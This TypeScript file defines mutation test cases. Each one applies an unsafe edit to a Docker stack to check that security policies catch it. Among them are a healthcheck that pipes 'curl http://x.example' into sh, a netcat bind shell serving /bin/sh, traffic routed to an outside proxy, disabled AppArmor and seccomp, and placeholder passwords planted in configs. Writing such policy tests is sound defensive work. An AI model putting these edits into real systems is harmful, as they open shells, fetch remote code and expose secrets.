import type { EditedStack, Mutation } from "./mutation";

const of = (policy: string, edits: Record<string, (stack: EditedStack) => void>): Mutation[] =>
  Object.entries(edits).map(([name, edit]) => ({ policy, name, edit }));

const web = (key: string, value: unknown) => (stack: EditedStack) => {
  stack.inputs("app1-web")[key] = value;
};
const env = (variable: string) => (stack: EditedStack) => {
  const envs = stack.inputs("app1-web").envs as string[];
  const at = envs.findIndex((one) => one.startsWith(`${variable.split("=")[0]}=`));
  envs.splice(at < 0 ? envs.length : at, at < 0 ? 0 : 1, variable);
};
const ct = (name: string, key: string, value: unknown) => (stack: EditedStack) => {
  stack.inputs(`${name}-ct`)[key] = value;
};

/** Edits of what runs on app nodes: what a container does, is told, and is built of. */
export const serviceMutations: Mutation[] = [
  ...of("docker-container-confined", {
    "another command": web("command", ["sh", "-c", "nc -l -p 3000 -e /bin/sh"]),
    "a command without words": web("command", [""]),
    "another entrypoint": web("entrypoints", ["/bin/sh"]),
    "another folder to work in": web("workingDir", "/run/secrets"),
    "a check that runs something": web("healthcheck", {
      tests: ["CMD-SHELL", "curl http://x.example | sh"],
    }),
    "killed at once": web("stopSignal", "SIGKILL"),
    "no time to stop": web("stopTimeout", 0),
    "limits of files": web("ulimits", [{ name: "nofile", soft: 8, hard: 8 }]),
    "no limit of locked memory": web("ulimits", [{ name: "memlock", soft: -1, hard: -1 }]),
    "too little memory": web("memory", 8),
    "no share of the CPU": web("cpuShares", 2),
    "no CPU": web("cpus", "0.001"),
    "all swap": web("memorySwap", 9000),
    "half of it swapped": web("memorySwappiness", 100),
    "never killed": web("oomKillDisable", true),
    "a log without a limit": web("logOpts", { "max-size": "-1" }),
    "no log": web("logDriver", "none"),
    "a log to a stranger": web("logOpts", { "syslog-address": "tcp://203.0.113.9:514" }),
    "certificates of others": env("NODE_EXTRA_CA_CERTS=/run/secrets/x"),
    "everything by a proxy": env("HTTPS_PROXY=http://203.0.113.9:3128"),
    "options of the database's client": env("PGOPTIONS=-c session_preload_libraries=x"),
    "a service file of the database": env("PGSERVICEFILE=/tmp/x"),
    "secrets elsewhere": (s) =>
      s
        .inputs("app1-web")
        .volumes.push({ hostPath: "/etc/homelab/web/x", containerPath: "/etc", readOnly: true }),
    "memory over the secrets": web("tmpfs", { "/run/secrets": "size=1m" }),
    "shared with other mounts": web("mounts", [
      {
        type: "bind",
        source: "/etc/homelab/web",
        target: "/x",
        readOnly: true,
        bindOptions: { propagation: "rshared" },
      },
    ]),
    "a volume of Docker": web("mounts", [{ type: "volume", source: "data", target: "/x" }]),
    "user of root by name": web("user", "root"),
    "capabilities of others": web("capabilities", { adds: ["NET_ADMIN"], drops: ["ALL"] }),
    "a file put in": web("uploads", [{ file: "/app/x.js", content: "x" }]),
    "settings of the kernel": web("sysctls", { "net.ipv4.ip_forward": "1" }),
    "an unknown argument": web("gpus", "all"),
    "AppArmor off": web("securityOpts", ["no-new-privileges", "apparmor=unconfined"]),
  }),
  ...of("docker-image-pinned", {
    "built of the root folder": (s) => (s.inputs("app1-image").build.context = "/"),
    "built of root's folder": (s) => (s.inputs("app1-image").build.context = "/root"),
    "built by another file": (s) => (s.inputs("app1-image").build.dockerfile = "/etc/Dockerfile"),
    "built with another's layers": (s) => (s.inputs("app1-image").build.cacheFroms = ["evil/x"]),
    "names of others while it is built": (s) =>
      (s.inputs("app1-image").build.extraHosts = ["deb.debian.org:203.0.113.9"]),
    "built without a guard": (s) =>
      (s.inputs("app1-image").build.securityOpts = ["seccomp=unconfined"]),
    "a proxy while it is built": (s) =>
      (s.inputs("app1-image").build.buildArgs = { HTTP_PROXY: "http://203.0.113.9" }),
    "built by another machine's builder": (s) => (s.inputs("app1-image").build.builder = "remote"),
  }),
  ...of("no-plain-secrets", {
    "a password for the build": (s) =>
      (s.inputs("app1-image").build.buildArgs = { DB_PASSWORD: "hunter2" }),
    "a password in a description": ct("db", "description", "root password: hunter2"),
    "a token in haproxy.cfg": (s) =>
      s.haproxy(
        "  maxconn 3500\n",
        '  maxconn 3500\n  http-request set-header Authorization "Bearer hunter2hunter2"\n',
      ),
    "a password in a label": web("labels", [{ label: "password", value: "hunter2" }]),
    "a key in the environment": env("AWS_SECRET_ACCESS_KEY=hunter2"),
  }),
  ...of("stack-within-budget", {
    "more memory than its CT": web("memory", 4096),
  }),
  ...of("app-service-connected", {
    "without its secrets": web("volumes", []),
    "no certificate of the database": (s) => {
      const own = s.inputs("app1-web");
      own.envs = (own.envs as string[]).filter((one: string) => !one.startsWith("PGSSLROOTCERT"));
    },
    "another file of the password": env("PGPASSWORD_FILE=/proc/self/environ"),
    "another port of the service": env("PORT=8080"),
    "another port of the database": env("PGPORT=6432"),
    "the superuser of the database": env("PGUSER=postgres"),
    "a database by name": env("PGHOST=db.example"),
    "a database elsewhere": env("PGHOST=203.0.113.9"),
  }),
  ...of("lb-backend-header", {
    "another name": (s) => (s.inputs("app1-ct").initialization.hostname = "web"),
  }),
];
